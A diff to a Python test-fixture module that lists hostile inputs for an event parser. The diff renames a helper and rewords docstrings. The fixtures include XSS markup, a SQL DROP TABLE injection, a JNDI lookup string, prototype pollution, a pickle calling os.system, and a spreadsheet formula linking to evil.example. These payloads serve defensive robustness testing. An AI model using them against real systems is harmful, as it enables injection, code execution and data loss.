@@ -1,4 +1,4 @@
-"""Hostile input, by name: what a broken or hijacked engine, or a person, may send. Reused wherever text comes in."""
+"""Hostile input by name: events and frames of a broken or compromised engine, and texts of users."""
 
 import json
 
@@ -11,44 +11,44 @@ def _event(**fields: object) -> bytes:
     return json.dumps(base | fields).encode()
 
 
-def _with(rest: bytes) -> bytes:
-    return b'{"id":"%s","kind":"MessageEvent","source":"user",%s}' % (_ID.encode(), rest)
+def _raw(fields: bytes) -> bytes:
+    return b'{"id":"%s","kind":"MessageEvent","source":"user",%s}' % (_ID.encode(), fields)
 
 
 EVENTS: dict[str, bytes] = {
-    # Strict JSON, however odd: kept as it came.
+    # Strict JSON, which is stored unchanged.
     "plain": _event(text="hello"),
     "empty object": b"{}",
     "spaces": b' {\n\t"id" : "a" ,\r\n "kind":"K"} ',
-    "NUL escape": _with(rb'"text":"a\u0000b"'),
-    "NUL escape in a key": _with(rb'"a\u0000":1'),
-    "lone high surrogate": _with(rb'"text":"\ud800"'),
-    "lone low surrogate": _with(rb'"text":"x\udfffy"'),
-    "swapped surrogates": _with(rb'"text":"\udc00\ud800"'),
-    "surrogate in a key": _with(rb'"\ud83d":1'),
-    "good surrogate pair": _with(rb'"text":"\ud83d\ude00"'),
+    "NUL escape": _raw(rb'"text":"a\u0000b"'),
+    "NUL escape in a key": _raw(rb'"a\u0000":1'),
+    "lone high surrogate": _raw(rb'"text":"\ud800"'),
+    "lone low surrogate": _raw(rb'"text":"x\udfffy"'),
+    "swapped surrogates": _raw(rb'"text":"\udc00\ud800"'),
+    "surrogate in a key": _raw(rb'"\ud83d":1'),
+    "valid surrogate pair": _raw(rb'"text":"\ud83d\ude00"'),
     "emoji and rtl": _event(text="👩‍👩‍👧 \u202e abc \u0301 \ufeff \u2028 \u2029"),
-    "noncharacters": _with('"text":"\uffff\U0010ffff\ufdd0"'.encode()),
-    "DEL and C1": _with('"text":"\x7f\x80\x9f"'.encode()),
-    "1e400": _with(b'"n":1e400'),
-    "minus 1e400": _with(b'"n":-1e400'),
-    "tiny": _with(b'"n":1e-400'),
-    "long fraction": _with(b'"n":0.' + b"3" * 5_000),
-    "integer of 4,301 digits": _with(b'"n":' + b"9" * 4_301),
-    "integer of 100,000 digits": _with(b'"n":-' + b"7" * 100_000),
-    "minus zero": _with(b'"n":-0'),
-    "2**53 + 1": _with(b'"n":9007199254740993'),
-    "duplicate keys": _with(b'"a":1,"a":2,"id":"second"'),
+    "noncharacters": _raw('"text":"\uffff\U0010ffff\ufdd0"'.encode()),
+    "DEL and C1": _raw('"text":"\x7f\x80\x9f"'.encode()),
+    "1e400": _raw(b'"n":1e400'),
+    "minus 1e400": _raw(b'"n":-1e400'),
+    "tiny": _raw(b'"n":1e-400'),
+    "long fraction": _raw(b'"n":0.' + b"3" * 5_000),
+    "integer of 4,301 digits": _raw(b'"n":' + b"9" * 4_301),
+    "integer of 100,000 digits": _raw(b'"n":-' + b"7" * 100_000),
+    "minus zero": _raw(b'"n":-0'),
+    "2**53 + 1": _raw(b'"n":9007199254740993'),
+    "duplicate keys": _raw(b'"a":1,"a":2,"id":"second"'),
     "many keys": _event(**{f"k{n}": n for n in range(20_000)}),
     "long string": _event(text="x" * 1_000_000),
     "HTML": _event(text="</script><script>alert(1)</script><img src=x onerror=alert(1)>"),
     "terminal escapes": _event(text="\x1b[2J\x1b]0;title\x07\x1b[31mred"),
     "SQL": _event(text="'; DROP TABLE conversations_event; --"),
     "format strings": _event(text="%s %n {0} {{7*7}} ${jndi:ldap://x}"),
-    "prototype": _with(b'"__proto__":{"admin":true},"constructor":{}'),
+    "prototype": _raw(b'"__proto__":{"admin":true},"constructor":{}'),
     "quotes and braces in strings": _event(text='"}],{"[' * 1_000),
     "flat, many brackets": _event(items=[{"a": []}] * 5_000),
-    # Ids, kinds and sources that are none.
+    # Missing or invalid ids, kinds and sources.
     "no id": b'{"kind":"MessageEvent","source":"user"}',
     "no kind": b'{"id":"a1","source":"user"}',
     "empty id": _event(id=""),
@@ -83,13 +83,13 @@ EVENTS: dict[str, bytes] = {
     "a string": b'"text"',
     "null": b"null",
     "a number": b"1",
-    # Not strict JSON, or too deep for readers: kept as base64.
-    "NaN": _with(b'"n":NaN'),
-    "Infinity": _with(b'"n":-Infinity'),
-    "leading zero": _with(b'"n":01'),
-    "plus": _with(b'"n":+1'),
-    "hexadecimal": _with(b'"n":0x10'),
-    "trailing comma": _with(b'"a":1,'),
+    # Not strict JSON, or too deep for JSON parsers. These are stored as base64.
+    "NaN": _raw(b'"n":NaN'),
+    "Infinity": _raw(b'"n":-Infinity'),
+    "leading zero": _raw(b'"n":01'),
+    "plus": _raw(b'"n":+1'),
+    "hexadecimal": _raw(b'"n":0x10'),
+    "trailing comma": _raw(b'"a":1,'),
     "single quotes": b"{'id':'a'}",
     "comment": b'{"id":"a"}/* c */',
     "two values": b'{"id":"a"}{"id":"b"}',
@@ -98,25 +98,25 @@ EVENTS: dict[str, bytes] = {
     "only spaces": b"  ",
     "byte order mark": b'\xef\xbb\xbf{"id":"a"}',
     "UTF-16": '{"id":"a"}'.encode("utf-16"),
-    "raw NUL in a string": _with(b'"text":"a\0b"'),
+    "raw NUL in a string": _raw(b'"text":"a\0b"'),
     "raw NUL outside": b'{"id":"a"\0}',
-    "raw control character": _with(b'"text":"a\x01b"'),
-    "raw newline in a string": _with(b'"text":"a\nb"'),
-    "bad escape": _with(rb'"text":"\q"'),
-    "short escape": _with(rb'"text":"\u12"'),
-    "invalid UTF-8": _with(b'"text":"\xff\xfe"'),
-    "overlong UTF-8": _with(b'"text":"\xc0\x80"'),
-    "surrogate in UTF-8": _with(b'"text":"\xed\xa0\x80"'),
-    "cut UTF-8": _with(b'"text":"\xf0\x9f\x98"'),
-    "beyond Unicode": _with(b'"text":"\xf4\x90\x80\x80"'),
+    "raw control character": _raw(b'"text":"a\x01b"'),
+    "raw newline in a string": _raw(b'"text":"a\nb"'),
+    "bad escape": _raw(rb'"text":"\q"'),
+    "short escape": _raw(rb'"text":"\u12"'),
+    "invalid UTF-8": _raw(b'"text":"\xff\xfe"'),
+    "overlong UTF-8": _raw(b'"text":"\xc0\x80"'),
+    "surrogate in UTF-8": _raw(b'"text":"\xed\xa0\x80"'),
+    "cut UTF-8": _raw(b'"text":"\xf0\x9f\x98"'),
+    "beyond Unicode": _raw(b'"text":"\xf4\x90\x80\x80"'),
     "pickle": b"\x80\x04\x95cos\nsystem\n.",
     "gzip": b"\x1f\x8b\x08\x00" + bytes(range(256)),
-    "deep arrays": _with(b'"d":' + b"[" * _DEEP + b"]" * _DEEP),
+    "deep arrays": _raw(b'"d":' + b"[" * _DEEP + b"]" * _DEEP),
     "deep objects": b'{"a":' * _DEEP + b"1" + b"}" * _DEEP,
     "deep and open": b"[" * _DEEP,
     "501 deep": b"[" * 501 + b"]" * 501,
 }
-"""Texts that stand where one event of the engine should."""
+"""Bodies in the place of an event of the engine."""
 
 TEXTS: dict[str, str] = {
     "empty": "",
@@ -141,11 +141,11 @@ TEXTS: dict[str, str] = {
     "CSV": '=HYPERLINK("http://evil.example","x")',
     "long": "x" * 1_000_000,
 }
-"""Texts that people may send as a title, a message or a name. Not all of them can be encoded."""
+"""Texts that users may send as a title, a message or a name. Some cannot be encoded as UTF-8."""
 
 
 def frame(event: bytes, *, seq: int = 3) -> bytes:
-    """A frame as the engine writes it, around any event."""
+    """Return a frame of the engine's session socket around an event."""
     return b'{"type":"durable","seq":%d,"event":%s}' % (seq, event)
 
 
@@ -174,4 +174,4 @@ FRAMES: dict[str, bytes] = {
     "deep": b"[" * _DEEP,
     "deep extra field": b'{"type":"sync","x":' + b"[" * _DEEP + b"]" * _DEEP + b"}",
 }
-"""Frames of the session socket that say nothing we can use."""
+"""Invalid frames of the session socket."""
